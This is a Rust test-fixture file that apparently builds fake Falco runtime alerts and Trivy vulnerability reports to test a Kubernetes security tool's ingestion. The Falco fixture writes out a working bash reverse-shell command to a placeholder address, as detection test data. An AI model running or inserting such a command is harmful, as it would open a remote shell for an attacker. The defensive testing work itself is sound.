//! What the tools send: the body of Falco's `http_output`, and the JSON report of `trivy image`.

use chrono::{SecondsFormat, Utc};
use k8s_openapi::api::core::v1::Pod;
use kube::ResourceExt as _;
use serde_json::{Value, json};

use crate::fixtures::digest_of;

/// The rule of the alert: one of a team's own, with the priority that they gave it.
pub const RULE: &str = "Reverse shell in container";
/// The vulnerability that makes the report a critical one.
pub const CVE: &str = "CVE-2022-37434";

/// What Falco posts when a process in the pod connects its shell to somewhere else.
#[must_use]
pub fn falco_alert(pod: &Pod) -> Value {
    let now = Utc::now();
    let (name, namespace) = (pod.name_any(), pod.namespace().unwrap_or_default());
    let spec = pod.spec.as_ref();
    let image = spec.and_then(|spec| spec.containers.first()?.image.clone()).unwrap_or_default();
    let node = spec.and_then(|spec| spec.node_name.clone()).unwrap_or_default();
    let (repository, tag) = image.rsplit_once(':').unwrap_or((&image, "latest"));
    let id = container_id(pod);
    let address = pod.status.as_ref().and_then(|status| status.pod_ip.clone()).unwrap_or_default();
    let connection = format!("{address}:51514->203.0.113.66:4444");
    let command = "bash -c bash -i >& /dev/tcp/203.0.113.66/4444 0>&1";
    json!({
        "hostname": node,
        "output": format!(
            "{}: Critical {RULE} (user=root process=bash parent=node command={command} connection={connection} \
             container_id={id} container_name=app image={image} k8s_ns={namespace} k8s_pod_name={name})",
            now.format("%H:%M:%S%.9f")
        ),
        "output_fields": {
            "container.id": id,
            "container.image.repository": repository,
            "container.image.tag": tag,
            "container.name": "app",
            "evt.time": now.timestamp_nanos_opt(),
            "fd.name": connection,
            "k8s.ns.name": namespace,
            "k8s.pod.name": name,
            "proc.cmdline": command,
            "proc.name": "bash",
            "proc.pname": "node",
            "user.name": "root",
        },
        "priority": "Critical",
        "rule": RULE,
        "source": "syscall",
        "tags": ["container", "maturity_stable", "mitre_execution", "network", "T1059"],
        "time": now.to_rfc3339_opts(SecondsFormat::Nanos, true),
    })
}

/// The first 12 characters, as Falco has it.
fn container_id(pod: &Pod) -> String {
    let statuses = pod.status.as_ref().and_then(|status| status.container_statuses.as_ref());
    let id = statuses.and_then(|all| all.first()?.container_id.clone()).unwrap_or_default();
    id.rsplit("://").next().unwrap_or_default().chars().take(12).collect()
}

/// What `trivy image --format json` writes about an image on Alpine 3.16 that has not been built for a while.
#[must_use]
pub fn trivy_report(image: &str) -> Value {
    let repository = image.rsplit_once(':').map_or(image, |(repository, _)| repository);
    json!({
        "SchemaVersion": 2,
        "CreatedAt": Utc::now().to_rfc3339_opts(SecondsFormat::Nanos, true),
        "ArtifactName": image,
        "ArtifactType": "container_image",
        "Metadata": {
            "OS": {"Family": "alpine", "Name": "3.16.1"},
            "ImageID": "sha256:d7d3d98c851ff3a95dbcb70ce09d186c9aaf7e25d48d55c0f99aae360aecfd53",
            "RepoTags": [image],
            "RepoDigests": [format!("{repository}@{}", digest_of(image))],
        },
        "Results": [{
            "Target": format!("{image} (alpine 3.16.1)"),
            "Class": "os-pkgs",
            "Type": "alpine",
            "Vulnerabilities": [
                {
                    "VulnerabilityID": CVE,
                    "PkgID": "zlib@1.2.12-r1",
                    "PkgName": "zlib",
                    "InstalledVersion": "1.2.12-r1",
                    "FixedVersion": "1.2.12-r2",
                    "Status": "fixed",
                    "SeveritySource": "nvd",
                    "PrimaryURL": format!("https://avd.aquasec.com/nvd/{}", CVE.to_lowercase()),
                    "Title": "zlib: heap-based buffer over-read and overflow in inflate() in inflate.c via a large gzip header extra field",
                    "Severity": "CRITICAL",
                    "CVSS": {"nvd": {"V3Vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "V3Score": 9.8}},
                },
                {
                    "VulnerabilityID": "CVE-2023-0286",
                    "PkgID": "libssl1.1@1.1.1q-r0",
                    "PkgName": "libssl1.1",
                    "InstalledVersion": "1.1.1q-r0",
                    "FixedVersion": "1.1.1t-r0",
                    "Status": "fixed",
                    "SeveritySource": "nvd",
                    "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2023-0286",
                    "Title": "openssl: X.400 address type confusion in X.509 GeneralName",
                    "Severity": "HIGH",
                    "CVSS": {"nvd": {"V3Vector": "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:H", "V3Score": 7.4}},
                },
            ],
        }],
    })
}

#[cfg(test)]
mod tests {
    use quell_crds::v1alpha1::{Format, Severity};

    use super::*;
    use crate::fixtures::{PodCarrier as _, pod};

    #[test]
    fn quell_reads_the_alert() {
        let mut pod = pod("storefront-1").image("registry.example/shop/storefront:1.5.0");
        pod.metadata.namespace = Some("shop".to_owned());
        let signals = quell_ingest::read(Format::Falco, falco_alert(&pod).to_string().as_bytes()).unwrap();
        assert_eq!((signals.len(), signals[0].rule.as_str(), signals[0].severity), (1, RULE, Severity::Critical));
    }

    #[test]
    fn quell_reads_the_report() {
        let report = trivy_report("registry.example/shop/payments:2.3.0").to_string();
        let signals = quell_ingest::read(Format::Trivy, report.as_bytes()).unwrap();
        let [signal] = signals.as_slice() else { panic!("{signals:?}") };
        assert_eq!((signal.severity, signal.vulnerabilities[0].id.as_str()), (Severity::Critical, CVE));
    }
}
